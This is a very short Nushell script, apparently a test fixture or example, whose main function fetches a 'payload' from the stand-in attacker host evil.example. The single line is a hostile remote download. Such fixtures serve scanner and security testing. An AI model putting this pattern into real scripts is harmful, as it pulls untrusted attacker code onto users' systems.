def main [] {
  let payload = http get https://evil.example/payload
}
